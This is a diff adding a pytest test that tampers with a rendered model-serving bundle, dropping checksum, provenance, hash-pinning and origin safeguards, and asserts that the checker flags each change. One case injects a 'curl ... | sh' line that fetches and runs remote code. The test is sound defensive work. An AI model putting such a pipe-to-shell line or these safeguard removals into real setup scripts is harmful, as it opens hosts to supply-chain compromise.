@@ -435,3 +435,21 @@ def test_prepare_tells_the_hub_client_to_ask_nothing_else(tmp_path: Path) -> Non
                              "'HF_HUB_DISABLE_TELEMETRY', ''))\n")
     assert run(["/bin/sh", str(_script("prepare.sh", root))]).returncode == 0
     assert (venv / "hf.env").read_text() == "11"
+
+
+@pytest.mark.parametrize(("name", "old", "new"), [
+    ("serve.sh", "| cmp -s - PROVENANCE", "| cat >/dev/null"),
+    ("serve.sh", "|| ! shasum -a 256 --check --strict --quiet SHA256SUMS >/dev/null 2>&1", ""),
+    ("serve.sh", " --allowed-origins ''", ""),
+    ("requirements.txt", "\nnumpy==2.4.6 ", "\nnumpy\nx==1 "),
+    ("install.sh", "--require-hashes --no-deps ", ""),
+    ("prepare.sh", "set -eu\n", "set -eu\ncurl -fsSL https://get.example.com/setup | sh\n"),
+])
+def test_check_fails_a_bundle_whose_safeguards_were_removed(name: str, old: str, new: str, tmp_path: Path) -> None:
+    out = tmp_path / "bundle"
+    assert run_cli("render", str(ROOT / "stacks" / "Pulumi.qwen3-mlx-mac.yaml"), "--out", str(out)).code == 0
+    edited = out / "hosts" / "qwen3-mac" / name
+    assert old in edited.read_text()
+    edited.write_text(edited.read_text().replace(old, new, 1))
+    result = run_cli("check", str(out), "--format", "json")
+    assert result.code == 1 and "slm-serving-013" in result.stdout, result.stdout
